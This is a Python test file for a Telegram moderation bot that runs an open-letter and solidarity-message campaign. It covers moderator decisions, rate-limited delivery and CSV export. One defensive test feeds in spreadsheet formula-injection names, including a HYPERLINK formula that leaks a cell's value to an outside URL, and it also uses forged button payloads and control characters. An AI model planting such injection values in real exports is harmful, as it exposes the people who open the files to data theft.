"""The moderator group, the channel and the outbox, through the emulator."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import signal
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from bot.app import build_application
from bot.buttons import ApproveMessage, MessageChoice, MessageStep
from bot.config import Settings
from bot.context import BotApplication
from bot.delivery.pacer import Pacer, Rates
from bot.domain import days
from bot.domain.effects import CHANNEL, MODERATORS, Method, Post
from bot.domain.signatures import Listing, SignatureDraft
from bot.runtime import start_application, stop_application
from bot.sandbox.driver import Driver
from bot.sandbox.emulator import Emulator
from bot.sandbox.run import CHANNEL_ID, MODERATOR_GROUP_ID
from bot.sandbox.server import EmulatorServer
from tests.helpers.database import rows
from tests.helpers.people import JSON, Supporter, buttons, new_supporter
from tests.helpers.processes import bot_environment, start_bot_process

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (32).to_bytes(4, "big") * 2
MINA, JONAS, KIM = 30_001, 30_002, 30_003  # creator, administrator, plain member
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def fast(settings: Settings) -> Settings:
    """Digests carded and the counter edited quickly; the group window shortened to a second."""
    return replace(settings, card_interval=0.2, counter_interval=0.5, group_rate=(20, 1.0))


@pytest.fixture
async def desk_bot(fast: Settings) -> AsyncIterator[BotApplication]:
    application = build_application(fast)
    await start_application(application, poll_timeout=2)
    yield application
    await stop_application(application)


async def send_text_message(person: Supporter, words: str) -> None:
    """The whole /message flow, anonymously, without a country."""
    await person.say("/message", replies=2)
    await person.say(words)
    await person.press_and_wait(data=MessageStep(MessageChoice.ANONYMOUS).pack())
    await person.press_and_wait(data=MessageStep(MessageChoice.SKIP).pack(), replies=2)
    await person.press_and_wait(data=MessageStep(MessageChoice.SEND).pack())


async def card_for(driver: Driver, reference: str) -> JSON:
    async def probe() -> JSON | None:
        for message in await driver.bot_messages(MODERATOR_GROUP_ID):
            if reference in str(message.get("text") or message.get("caption") or ""):
                return message
        return None

    found: JSON = await driver.wait_for(probe, what=f"the card {reference}")
    return found


async def press(driver: Driver, who: int, card: JSON, text: str) -> JSON:
    query = await driver.press(who, MODERATOR_GROUP_ID, text=text, message_id=card["message_id"])
    return await driver.wait_answered(query)


async def current(driver: Driver, chat_id: int, message_id: int) -> JSON:
    [message] = [m for m in await driver.messages(chat_id) if m["message_id"] == message_id]
    return message


async def edited(driver: Driver, card: JSON, edits: int = 1) -> JSON:
    """The card once the bot has edited it `edits` times (a press is answered, then edited)."""

    async def probe() -> JSON | None:
        now = await current(driver, MODERATOR_GROUP_ID, card["message_id"])
        return now if now["edits"] >= card["edits"] + edits else None

    found: JSON = await driver.wait_for(probe, what="the card edited")
    return found


# --------------------------------------------------------------- decisions


async def test_an_approved_message_is_published_and_its_author_told_the_link(
    desk_bot: BotApplication, driver: Driver, fast: Settings
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Woman, life, freedom <3")
    card = await card_for(driver, "#M1")
    assert card["text"].startswith("#M1 · English (en) · waiting for review")
    assert "Woman, life, freedom <3\n\n— A supporter" in card["text"]
    assert buttons(card) == ["Approve", "Reject", "Ban author"]
    assert "forward_origin" not in card
    answer = await press(driver, MINA, card, "Approve")
    assert answer["answer"]["text"] == "Done."

    async def published() -> list[JSON]:
        return await driver.bot_messages(CHANNEL_ID)

    posts = await driver.wait_for(published, what="the channel post")
    [post] = [p for p in posts if "Woman" in p.get("text", "")]
    assert post["text"] == "Woman, life, freedom <3\n\n— A supporter"
    link = f"https://t.me/solidarity_sandbox/{post['message_id']}"
    notices = await driver.wait_for(
        lambda: _messages_with(driver, alice.id, link), what="the author's notice"
    )
    assert (
        notices[0]["text"]
        == f"The moderators approved your message. It has been published: {link}"
    )
    stamped = await edited(driver, card)
    assert "approved by @mina_mod at" in stamped["text"]
    assert buttons(stamped) == []
    assert rows(fast, "SELECT decision, moderator_name FROM audit_log") == [
        ("approved", "@mina_mod")
    ]


async def _messages_with(driver: Driver, chat_id: int, text: str) -> list[JSON]:
    return [m for m in await driver.bot_messages(chat_id) if text in m.get("text", "")]


async def test_a_rejected_message_is_not_published_and_the_reason_told_in_persian(
    desk_bot: BotApplication, driver: Driver, fast: Settings
) -> None:
    sara = await new_supporter(driver, "Sara", "fa-IR")
    await send_text_message(sara, "پیام همبستگی")
    card = await card_for(driver, "#M1")
    assert card["text"].startswith("#M1 · فارسی (fa)")
    await press(driver, JONAS, card, "Reject")
    reasons = await edited(driver, card)
    assert buttons(reasons) == [
        "Spam", "Abusive", "Off-topic", "Personal data", "Duplicate", "Other", "Back"
    ]  # fmt: skip
    await press(driver, JONAS, card, "Spam")
    [told] = await driver.wait_for(
        lambda: _messages_with(driver, sara.id, "منتشر نکردند"), what="the Persian notice"
    )
    assert told["text"] == "ناظران پیام شما را منتشر نکردند: به هرزنامه شبیه است."
    await asyncio.sleep(0.5)
    assert all(
        "پیام همبستگی" not in m.get("text", "") for m in await driver.bot_messages(CHANNEL_ID)
    )
    assert rows(fast, "SELECT status FROM messages") == [("rejected",)]
    assert rows(fast, "SELECT decision, reason FROM audit_log") == [("rejected", "spam")]


async def test_two_moderators_at_once_one_decision_both_answered(
    desk_bot: BotApplication, driver: Driver, fast: Settings
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Solidarity")
    card = await card_for(driver, "#M1")
    await press(driver, MINA, card, "Reject")  # Mina opens the reasons...
    first = await driver.press(
        MINA, MODERATOR_GROUP_ID, text="Spam", message_id=card["message_id"]
    )
    approve = ApproveMessage(1).pack()
    second = await driver.forge_press(JONAS, MODERATOR_GROUP_ID, card["message_id"], approve)
    one, two = await driver.wait_answered(first), await driver.wait_answered(second)
    assert one["answer"]["text"] == "Done."
    assert two["answer"]["text"].startswith("Already rejected by @mina_mod on")
    assert rows(fast, "SELECT status FROM messages") == [("rejected",)]
    assert rows(fast, "SELECT COUNT(*) FROM audit_log") == [(1,)]
    stamped = await edited(driver, card, 2)  # the reasons, then the decision
    # Whichever press edits last stamps it: the winner's time, or the day from the audit log.
    assert re.search(r"rejected by @mina_mod (at|on) ", stamped["text"])


async def test_a_non_moderator_and_forged_payloads_change_nothing(
    desk_bot: BotApplication, driver: Driver, fast: Settings
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Solidarity")
    card = await card_for(driver, "#M1")
    answer = await press(driver, KIM, card, "Approve")
    assert answer["answer"]["text"] == "Only the moderators can decide here."
    # Another message than the card's: refused for this card.
    query = await driver.forge_press(
        MINA, MODERATOR_GROUP_ID, card["message_id"], ApproveMessage(999).pack()
    )
    assert (await driver.wait_answered(query))["answer"]["text"] == (
        "This button does not belong to this card."
    )
    # A digest's and a signature's action on a message; no such reason; no action at all;
    # a number written with a leading zero (these cannot be built, only forged).
    malformed = ("v1:mod:d:M1", "v1:mod:s:M1", "v1:mod:x:M1:gossip", "v1:mod:", "v1:mod:a:M01")
    for forged in malformed:
        query = await driver.forge_press(MINA, MODERATOR_GROUP_ID, card["message_id"], forged)
        answered = await driver.wait_answered(query)
        assert answered["answer"]["text"] == "This button is no longer valid.", forged
    outsider = await driver.forge_press(alice.id, alice.id, 1, ApproveMessage(1).pack())
    assert (await driver.wait_answered(outsider))["answer"]["text"] == (
        "Only the moderators can decide here."
    )
    assert rows(fast, "SELECT status FROM messages") == [("pending",)]
    assert rows(fast, "SELECT COUNT(*) FROM audit_log") == [(0,)]
    assert (await current(driver, MODERATOR_GROUP_ID, card["message_id"]))["text"] == card["text"]


async def test_any_member_decides_with_moderators_members(fast: Settings, driver: Driver) -> None:
    application = build_application(replace(fast, moderators="members"))
    await start_application(application, poll_timeout=2)
    try:
        alice = await new_supporter(driver, "Alice", "en")
        await send_text_message(alice, "Solidarity")
        card = await card_for(driver, "#M1")
        assert (await press(driver, KIM, card, "Approve"))["answer"]["text"] == "Done."
    finally:
        await stop_application(application)


async def test_ban_author_rejects_and_tells_them_once(
    desk_bot: BotApplication, driver: Driver, fast: Settings
) -> None:
    troll = await new_supporter(driver, "Troll", "de")
    await send_text_message(troll, "spam spam")
    card = await card_for(driver, "#M1")
    last = await troll.last_message_id()
    # One press asks for the reason (the confirmation); nothing is decided yet.
    asked = await press(driver, MINA, card, "Ban author")
    assert asked["answer"]["text"] == "Choose a reason to ban the author, or press Back."
    assert rows(fast, "SELECT COUNT(*) FROM banned") == [(0,)]
    card = await edited(driver, card)
    assert [row[0]["text"] for row in card["reply_markup"]["inline_keyboard"]] == [
        "Ban: Spam",
        "Ban: Abusive",
        "Ban: Other",
        "Back",
    ]
    await press(driver, MINA, card, "Ban: Spam")
    [told] = await driver.wait_bot_messages(troll.id, last)
    assert told["text"] == (
        "Das Moderationsteam nimmt keine Unterschriften und Nachrichten mehr von dir an. "
        "Den Brief kannst du weiterhin lesen."
    )
    before = await troll.last_message_id()
    await troll.send("/message")
    [letter, *_] = await troll.say("/letter")
    assert letter["message_id"] > before  # reading still works; /message was not answered
    assert not [m for m in await driver.bot_messages(troll.id, before) if "/cancel" in m["text"]]
    assert rows(fast, "SELECT COUNT(*) FROM banned") == [(1,)]


# ------------------------------------------------------------------- surge


async def test_a_thousand_signatures_become_digests_within_the_group_limit(
    fast: Settings, driver: Driver, emulator: Emulator
) -> None:
    await driver.flood(per_group_per_minute=20, group_window=1.0, overall_per_second=30)
    application = build_application(fast)
    await start_application(application, poll_timeout=2)
    try:
        data = application.bot_data
        service = data.services.signing
        for number in range(1000):
            person = emulator.add_user(f"Signer {number}")
            await service.submit(
                data.keys.of(person.id),
                person.id,
                SignatureDraft(Listing.NAME, f"Signer {number}", "DE"),
                "en",
            )

        async def digests() -> list[JSON] | None:
            [(uncarded, made)] = rows(
                fast,
                "SELECT SUM(digest_id IS NULL), COUNT(DISTINCT digest_id) FROM signatures",
            )
            shown = await driver.bot_messages(MODERATOR_GROUP_ID)
            cards = [m for m in shown if "Digest #D" in m["text"]]
            return cards if uncarded == 0 and len(cards) == made else None

        cards = await driver.wait_for(digests, timeout=60, what="every digest card")
        assert 50 <= len(cards) <= 60  # twenty to a card: a few dozen, not a thousand
        assert emulator.rate_limited == 0  # the outbox kept within the group's limit
        assert cards[0]["text"].startswith("Digest #D1:")
        assert "#S1 · Signer 0, Germany · Germany · en" in cards[0]["text"]
        assert buttons(cards[0])[0] == "Approve all"
        assert max(len(buttons(card)) for card in cards) == 21  # and one Reject per entry
        for card in cards:
            query = await driver.press(
                MINA, MODERATOR_GROUP_ID, text="Approve all", message_id=card["message_id"]
            )
            await driver.wait_answered(query)
        assert rows(fast, "SELECT COUNT(*) FROM signatures WHERE status = 'approved'") == [(1000,)]

        async def milestone() -> list[JSON]:
            return await _messages_with(driver, CHANNEL_ID, "1,000 people have signed")

        # Behind it in the outbox: a thousand notices at Telegram's 30 a second (34 s).
        await driver.wait_for(milestone, timeout=90, what="the milestone post")

        async def counter() -> list[JSON]:
            return await _messages_with(driver, CHANNEL_ID, "Signatures so far: 1,000")

        [post] = await driver.wait_for(counter, timeout=30, what="the counter")

        async def pinned() -> bool:
            return emulator.chats[CHANNEL_ID].pinned_message_id == post["message_id"]

        # Posted already at 1,000 when the approvals are quick: pinned at the next round.
        await driver.wait_for(pinned, timeout=10, what="the counter pinned")
    finally:
        await stop_application(application)


# ----------------------------------------------------------------- delivery


async def test_every_item_delivered_once_through_429_5xx_and_a_migration(
    fast: Settings, driver: Driver, emulator: Emulator
) -> None:
    group = await driver.add_chat("group", "Moderators (old)", bot_status="administrator")
    await driver.set_member(group["id"], MINA, "creator")
    settings = replace(fast, moderator_chat_id=group["id"])
    people = [emulator.add_user(f"P{n}") for n in range(3)]
    application = build_application(settings)
    await start_application(application, poll_timeout=2)
    try:
        data = application.bot_data
        await driver.flood(overall_per_second=4)
        await driver.faults(6, methods=["sendMessage"])
        new_id = await driver.migrate(group["id"])
        texts = []
        async with data.repos.db.transaction():
            for number in range(12):
                text = f"item {number}"
                chat = MODERATORS if number % 3 == 0 else str(people[number % 3].id)
                await data.repos.outbox.add(chat, Post(Method.MESSAGE, text))
                texts.append(text)
        data.worker.wake()

        async def drained() -> bool:
            return await data.repos.outbox.backlog() == 0

        await driver.wait_for(drained, timeout=60, what="the outbox to drain")
        delivered: list[str] = []
        for chat_id in (group["id"], new_id, *[p.id for p in people]):
            delivered += [
                m["text"]
                for m in await driver.bot_messages(chat_id)
                if m["text"].startswith("item")
            ]
        assert sorted(delivered) == sorted(texts)
        assert emulator.rate_limited > 0
        assert data.destinations.moderator_chat_id == new_id
        assert rows(
            settings, "SELECT value FROM campaign_state WHERE key LIKE 'migrated_from:%'"
        ) == [(str(new_id),)]
    finally:
        await stop_application(application)


async def test_a_killed_bot_delivers_its_outbox_after_a_restart(
    server: EmulatorServer, driver: Driver, fast: Settings, tmp_path: Path
) -> None:
    await driver.flood(per_group_per_minute=1)  # one card a minute: the rest stay queued
    env = bot_environment(server.url, DATABASE_PATH=str(fast.database_path))
    process = await start_bot_process("run", env, tmp_path, quiet=True)
    try:
        people = [await new_supporter(driver, f"P{n}", "en") for n in range(3)]
        for number, person in enumerate(people):
            await send_text_message(person, f"message {number}")
        await card_for(driver, "#M1")
        assert rows(fast, "SELECT COUNT(*) FROM outbox WHERE status = 'queued'") == [(2,)]
    finally:
        process.send_signal(signal.SIGKILL)
        await process.wait()
    await driver.flood()
    application = build_application(fast)
    await start_application(application, poll_timeout=2)
    try:
        for reference in ("#M2", "#M3"):
            await card_for(driver, reference)
        texts = [m["text"] for m in await driver.bot_messages(MODERATOR_GROUP_ID)]
        assert sorted(t.split(" ·")[0] for t in texts) == ["#M1", "#M2", "#M3"]
    finally:
        await stop_application(application)


async def test_hidden_and_control_characters_reach_neither_the_group_nor_the_channel(
    desk_bot: BotApplication, driver: Driver
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Woman\u202e, life\u2066\u200b, free\u0007dom\u001b[2J")
    card = await card_for(driver, "#M1")
    assert "Woman, life, freedom[2J\n\n— A supporter" in card["text"]
    await press(driver, MINA, card, "Approve")
    posts = await driver.wait_for(
        lambda: _messages_with(driver, CHANNEL_ID, "Woman"), what="the channel post"
    )
    assert posts[0]["text"] == "Woman, life, freedom[2J\n\n— A supporter"


async def send_photo_message(person: Supporter, caption: str) -> None:
    """The whole /message flow with a photo, anonymously, without a country."""
    await person.say("/message", replies=2)
    sent = await person.driver.send_media(person.id, "photo", PNG, caption=caption)
    await person.driver.wait_bot_messages(person.id, sent["message_id"])
    await person.press_and_wait(data=MessageStep(MessageChoice.ANONYMOUS).pack())
    await person.press_and_wait(data=MessageStep(MessageChoice.SKIP).pack(), replies=2)
    await person.press_and_wait(data=MessageStep(MessageChoice.SEND).pack())


async def test_only_what_reaches_the_moderator_group_is_protected_from_forwarding(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Hello")
    await send_photo_message(alice, "Azadi")
    data = desk_bot.bot_data
    signer = emulator.add_user("Signer")
    draft = SignatureDraft(Listing.NAME, "Signer One", "FR")
    await data.services.signing.submit(data.keys.of(signer.id), signer.id, draft, "fr")
    text_card = await card_for(driver, "#M1")
    await card_for(driver, "#M2")  # a photo with its caption
    await card_for(driver, "Digest #D1")
    commands = [
        (JONAS, "/pending", 1),
        (MINA, "/stats", 2),  # the figures and the chart
        (MINA, "/export", 1),
        (MINA, "/export messages", 1),
        (MINA, "/ban", 1),
        (MINA, "/help", 1),
        (KIM, "/export", 1),  # refused: not an administrator
    ]
    for who, command, replies in commands:
        sent = await driver.send(who, command, chat_id=MODERATOR_GROUP_ID)
        await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"], replies)

    async def resent() -> list[JSON] | None:
        shown = [text_of(m) for m in await driver.bot_messages(MODERATOR_GROUP_ID)]
        again = [t for t in shown if t.startswith(("#M1 ", "#M2 ", "Digest #D1"))]
        return again if len(again) == 6 else None

    await driver.wait_for(resent, what="the cards sent again")
    await press(driver, MINA, text_card, "Approve")
    await driver.wait_for(
        lambda: _messages_with(driver, CHANNEL_ID, "Hello"), what="the channel post"
    )
    await driver.wait_for(
        lambda: _messages_with(driver, alice.id, "approved your message"), what="the notice"
    )
    group = await driver.bot_messages(MODERATOR_GROUP_ID)
    # The three cards, /pending's answer and the cards again, the other commands' 7 answers.
    assert len(group) == 3 + 1 + 3 + 7
    unprotected = [text_of(m)[:30] for m in group if m.get("has_protected_content") is not True]
    assert unprotected == []
    for chat in (CHANNEL_ID, alice.id):
        sent = await driver.bot_messages(chat)
        assert sent and not [m for m in sent if "has_protected_content" in m]


def text_of(message: JSON) -> str:
    return str(message.get("text") or message.get("caption") or "")


# ------------------------------------------------------------------ commands


async def test_export_holds_one_row_per_approved_signature_and_no_ids(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator, fast: Settings
) -> None:
    data = desk_bot.bot_data
    service = data.services.signing
    people = [emulator.add_user(f"S{n}", user_id=7_000_000_000 + n) for n in range(5)]
    for number, person in enumerate(people):
        draft = SignatureDraft(
            Listing.NAME if number else Listing.ANONYMOUS, f"Name {number}", "SE"
        )
        await service.submit(data.keys.of(person.id), person.id, draft, "sv")
    from bot.domain.decisions import Moderator

    for signature_id in (1, 2, 3):
        await data.services.moderation.decide_signature(
            signature_id, True, Moderator(MINA, "@mina_mod")
        )
    sent = await driver.send(MINA, "/export", chat_id=MODERATOR_GROUP_ID)
    [document] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
    content = emulator.files.get(document["document"]["file_id"])
    assert content is not None and document["document"]["file_name"] == "signatures.csv"
    table = list(csv.reader(io.StringIO(content.data.decode("utf-8"))))
    assert table[0] == [
        "line", "country", "language", "date", "letter_language", "letter_version"
    ]  # fmt: skip
    assert [row[:3] for row in table[1:]] == [
        ["A supporter, Sweden", "SE", "sv"],
        ["Name 1, Sweden", "SE", "sv"],
        ["Name 2, Sweden", "SE", "sv"],
    ]
    for person in people:
        assert str(person.id) not in content.data.decode("utf-8")
    refused = await driver.send(JONAS, "/export", chat_id=MODERATOR_GROUP_ID)
    await driver.wait_bot_messages(MODERATOR_GROUP_ID, refused["message_id"])
    member = await driver.send(KIM, "/export", chat_id=MODERATOR_GROUP_ID)
    [no] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, member["message_id"])
    assert no["text"] == "Only the group's administrators can use /export."


async def test_export_cells_are_never_run_as_formulas(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator
) -> None:
    data = desk_bot.bot_data
    names = [
        '=HYPERLINK("https://example.org/?leak="&A2,"Click")',
        "+SUM(1;2) Bob",
        "-1+2 Carol",
        "@SUM(1) Dan",
        "\uff1dcmd Eve",  # a full-width equals sign
        "Maryam Namazie",
    ]
    for number, name in enumerate(names):
        person = emulator.add_user(f"S{number}")
        draft = SignatureDraft(Listing.NAME, name, None)
        await data.services.signing.submit(data.keys.of(person.id), person.id, draft, "en")
    from bot.domain.decisions import Moderator

    for signature_id in range(1, len(names) + 1):
        await data.services.moderation.decide_signature(
            signature_id, True, Moderator(MINA, "@mina_mod")
        )
    sent = await driver.send(MINA, "/export", chat_id=MODERATOR_GROUP_ID)
    [document] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
    content = emulator.files.get(document["document"]["file_id"])
    assert content is not None
    table = list(csv.reader(io.StringIO(content.data.decode("utf-8"))))
    assert [row[0] for row in table[1:]] == [
        '\'=HYPERLINK("https://example.org/?leak="&A2,"Click")',
        "'+SUM(1;2) Bob",
        "'-1+2 Carol",
        "'@SUM(1) Dan",
        "'\uff1dcmd Eve",
        "Maryam Namazie",
    ]


async def test_stats_sends_totals_and_a_png_chart(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Hello")
    sent = await driver.send(MINA, "/stats", chat_id=MODERATOR_GROUP_ID)
    totals, chart = await driver.wait_for(
        lambda: _after(driver, sent["message_id"], 2), what="the stats"
    )
    assert "Messages by status\npending: 1" in totals["text"]
    assert "Waiting in the outbox:" in totals["text"]
    image = emulator.files.get(chart["photo"][-1]["file_id"])
    assert image is not None and image.data.startswith(b"\x89PNG")


async def test_stats_by_day_counts_approved_and_pending_not_rejected_signatures(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator
) -> None:
    from bot.domain.decisions import Moderator

    data = desk_bot.bot_data
    for number in range(4):
        person = emulator.add_user(f"Signer {number}")
        draft = SignatureDraft(Listing.NAME, f"Signer {number}", "IR")
        await data.services.signing.submit(data.keys.of(person.id), person.id, draft, "en")
    moderation = data.services.moderation
    await moderation.decide_signature(1, True, Moderator(MINA, "@mina_mod"))
    await moderation.decide_signature(2, False, Moderator(MINA, "@mina_mod"))
    sent = await driver.send(MINA, "/stats", chat_id=MODERATOR_GROUP_ID)
    totals, _ = await driver.wait_for(
        lambda: _after(driver, sent["message_id"], 2), what="the stats"
    )
    today = days.today()
    assert f"Signatures by day\n{today:%B} {today.day}, {today.year}: 3\n" in totals["text"]
    assert "Signatures by country\nIR: 3\n" in totals["text"]
    assert "rejected: 1" in totals["text"]  # by status, every status is shown


async def test_a_members_stats_is_refused_by_its_name(
    desk_bot: BotApplication, driver: Driver
) -> None:
    sent = await driver.send(KIM, "/stats", chat_id=MODERATOR_GROUP_ID)
    [refused] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
    assert refused["text"] == "Only the moderators can use /stats."


@pytest.mark.parametrize("counts", [[], [1], [1, 2], [3, 0, 7], [2, 2]])
def test_the_chart_counts_in_whole_signatures(counts: list[int]) -> None:
    from matplotlib import pyplot

    from bot.render.chart import figure_of

    figure = figure_of([(f"2026-12-0{day + 1}", n) for day, n in enumerate(counts)], "")
    try:
        [axes] = figure.axes
        low, high = axes.get_ylim()
        ticks = [tick for tick in axes.get_yticks() if low <= tick <= high]
        assert ticks and all(float(tick).is_integer() for tick in ticks), ticks
        assert low == 0 and high >= max([1, *counts])
    finally:
        pyplot.close(figure)


async def _after(driver: Driver, message_id: int, count: int) -> list[JSON] | None:
    found = [
        m
        for m in await driver.bot_messages(MODERATOR_GROUP_ID, message_id)
        if "Digest" not in m.get("text", "") and "#M" not in m.get("text", "")
    ]
    return found if len(found) >= count else None


async def test_pending_sends_the_cards_again(desk_bot: BotApplication, driver: Driver) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "Hello")
    await card_for(driver, "#M1")
    sent = await driver.send(JONAS, "/pending", chat_id=MODERATOR_GROUP_ID)

    async def again() -> list[JSON] | None:
        cards = [
            m
            for m in await driver.bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
            if "#M1" in m.get("text", "")
        ]
        return cards or None

    await driver.wait_for(again, what="the card again")


async def test_approved_signatures_reach_the_channel_as_a_digest(
    fast: Settings, driver: Driver, emulator: Emulator
) -> None:
    from bot.domain.decisions import Moderator

    application = build_application(replace(fast, signature_digest_interval=0.5))
    await start_application(application, poll_timeout=2)
    try:
        data = application.bot_data
        service = data.services.signing
        for number in range(3):
            person = emulator.add_user(f"Signer {number}")
            draft = SignatureDraft(Listing.NAME, f"Signer {number}", "FR")
            await service.submit(data.keys.of(person.id), person.id, draft, "fr")
        for signature_id in (1, 2):
            await data.services.moderation.decide_signature(
                signature_id, True, Moderator(MINA, "@mina_mod")
            )

        async def digest() -> list[JSON]:
            return await _messages_with(driver, CHANNEL_ID, "New signatures")

        [post] = await driver.wait_for(digest, what="the channel digest")
        assert post["text"] == (
            "New signatures under the open letter:\n\n• Signer 0, France\n\n• Signer 1, France"
        )
        assert rows(fast, "SELECT COUNT(*) FROM signatures WHERE published_on IS NOT NULL") == [
            (2,)
        ]
    finally:
        await stop_application(application)


async def test_export_messages_is_ready_to_read_on_air(
    desk_bot: BotApplication, driver: Driver, emulator: Emulator
) -> None:
    alice = await new_supporter(driver, "Alice", "en")
    await send_text_message(alice, "We stand with you")
    card = await card_for(driver, "#M1")
    await press(driver, MINA, card, "Approve")
    sent = await driver.send(MINA, "/export messages", chat_id=MODERATOR_GROUP_ID)
    [document] = await driver.wait_bot_messages(MODERATOR_GROUP_ID, sent["message_id"])
    assert document["document"]["file_name"] == "messages-to-read-on-air.txt"
    stored = emulator.files.get(document["document"]["file_id"])
    assert stored is not None
    text = stored.data.decode("utf-8")
    assert text.startswith("#M1 · en · ")
    assert "We stand with you\n— A supporter" in text


def test_the_pacer_names_the_chats_that_must_wait_and_forgets_quiet_ones() -> None:
    pacer = Pacer(Rates(private_per_second=1, group_count=2, group_window=60.0))
    pacer.sent(MODERATORS, 100.0)
    pacer.sent(MODERATORS, 100.5)
    pacer.sent("20001", 100.5)
    held = pacer.held(101.0)
    assert held == {MODERATORS: pytest.approx(59.0), "20001": pytest.approx(0.5)}
    pacer.block(CHANNEL, 130.0)  # Telegram said 429: retry after 29 s
    assert set(pacer.held(102.0)) == {MODERATORS, CHANNEL}
    assert "20001" not in pacer.tracked  # one entry per person ever notified would only grow
    assert pacer.held(170.0) == {}
    for n in range(30):
        pacer.sent(str(n), 200.0)
    assert pacer.overall_wait(200.5) == pytest.approx(0.5)  # Telegram's ~30 a second
    assert pacer.overall_wait(201.0) == 0.0
